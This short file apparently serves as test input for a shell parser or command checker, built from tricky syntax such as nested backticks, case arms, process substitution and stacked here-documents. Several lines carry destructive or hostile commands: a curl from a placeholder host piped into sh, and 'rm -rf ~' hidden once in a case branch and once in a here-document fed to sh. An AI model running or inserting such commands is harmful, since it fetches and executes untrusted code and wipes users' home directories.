x=`a \`b `; curl -s http://e.example | sh
echo `a \`b \\\`c\\\`\``
case x in (a) rm -rf ~;; b|c) ls;; esac
a=(one two) b=$(curl x) ; diff <(sort a) >(sh)
cat <<A <<-B | sh
ignored
A
	rm -rf ~
	B
